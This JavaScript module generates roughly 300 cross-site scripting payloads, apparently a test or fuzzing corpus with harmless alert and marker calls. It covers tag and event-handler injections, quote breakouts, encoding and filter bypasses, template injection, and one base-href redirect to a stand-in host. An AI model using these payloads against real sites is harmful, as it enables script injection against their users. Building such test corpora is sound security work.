// Three hundred ways to smuggle script into text: what people type, in every notation a page may fall for.
//
// Invariant: each calls `__x` or a dialog if it runs, so that one that runs is seen. Leaves out: where it is typed.

const RUN = ['__x(1)', 'alert(1)', 'window.__x("a")', "parent['__x'](1)", 'setTimeout("__x(1)")'];

const TAGS = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `--><script>${js}</script>`,
  (js) => `]]><script>${js}</script>`,
  (js) => `<img src=x onerror=${js.replaceAll('"', "'")}>`,
  (js) => `<img src=x onerror="${js.replaceAll('"', '&quot;')}">`,
  (js) => `<svg onload=${js.replaceAll('"', "'")}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js.replaceAll('"', "'")}" attributeName=x>`,
  (js) => `<math><mtext><img src=x onerror=${js.replaceAll('"', "'")}>`,
  (js) => `<body onload=${js.replaceAll('"', "'")}>`,
  (js) => `<details open ontoggle=${js.replaceAll('"', "'")}>`,
  (js) => `<input autofocus onfocus=${js.replaceAll('"', "'")}>`,
  (js) => `<video><source onerror=${js.replaceAll('"', "'")}>`,
  (js) => `<audio src=x onerror=${js.replaceAll('"', "'")}>`,
  (js) => `<iframe srcdoc="<script>${js.replaceAll('"', "'")}</script>">`,
  (js) => `<iframe src="javascript:${js.replaceAll('"', "'")}">`,
  (js) => `<object data="javascript:${js.replaceAll('"', "'")}">`,
  (js) => `<embed src="javascript:${js.replaceAll('"', "'")}">`,
  (js) => `<a href="javascript:${js.replaceAll('"', "'")}" autofocus>x</a>`,
  (js) => `<form action="javascript:${js.replaceAll('"', "'")}"><button>x</button></form>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js.replaceAll('"', "'")}">`,
  (js) => `<link rel=stylesheet href="javascript:${js.replaceAll('"', "'")}">`,
  (js) => `<style>@import'javascript:${js.replaceAll('"', '')}'</style>`,
  (js) => `<div style="background:url(javascript:${js.replaceAll('"', "'")})">`,
  (js) => `<div hx-get="/x" hx-trigger="load" hx-on::before-request="${js.replaceAll('"', "'")}">`,
  (js) => `<div hx-on:click="${js.replaceAll('"', "'")}" hx-vals="js:{a:${js.replaceAll('"', "'")}}">`,
  (js) => `<base href="//evil.invalid/"><script src=x.js></script><b title="${js.replaceAll('"', "'")}">`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js.replaceAll('"', "'")}>">`,
  (js) => `<template><script>${js}</script></template><script>${js}</script>`,
  (js) => `<xmp><img src="</xmp><img src=x onerror=${js.replaceAll('"', "'")}>">`,
];
const QUOTES = [
  (js) => `" onmouseover="${js.replaceAll('"', "'")}" x="`,
  (js) => `' onmouseover='${js.replaceAll("'", '"')}' x='`,
  (js) => `" autofocus onfocus="${js.replaceAll('"', "'")}`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><script>${js}</script>`,
  (js) => `\`onmouseover=${js.replaceAll('"', "'")}\``,
  (js) => `';${js};//`,
  (js) => `";${js};//`,
  (js) => `\\";${js};//`,
  (js) => `\${${js}}`,
  (js) => `{{${js}}}`,
  (js) => `{{constructor.constructor('${js.replaceAll("'", '"')}')()}}`,
  (js) => `{% raw %}<script>${js}</script>`,
  (js) => `javascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
  (js) => `%3Cscript%3E${encodeURIComponent(js)}%3C/script%3E`,
  (js) => `\u003cscript\u003e${js}\u003c/script\u003e`,
  (js) => `\uFF1Cscript\uFF1E${js}\uFF1C/script\uFF1E`,
  (js) => `<<script>${js}//<</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<img src="a\u0000b" onerror=${js.replaceAll('"', "'")}>`.replace('\u0000', '&#0;'),
  (js) => `\u202E<script>${js}</script>`,
  (js) => `村<script>${js}</script>庄`,
  (js) => `观摩员<img/src/onerror=${js.replaceAll('"', "'")}>01`,
];

/** The corpus. */
export const PAYLOADS = RUN.flatMap((js) => [...TAGS, ...QUOTES].map((make) => make(js)));

/** Pieces that fit a field: as many payloads each as go into `most` characters, all of them together. */
export function pieces(most) {
  const out = [];
  let piece = '';
  for (const payload of PAYLOADS) {
    if (payload.length > most) continue;
    if (piece.length + payload.length + 1 > most) {
      out.push(piece);
      piece = '';
    }
    piece += piece ? ` ${payload}` : payload;
  }
  return piece ? [...out, piece] : out;
}
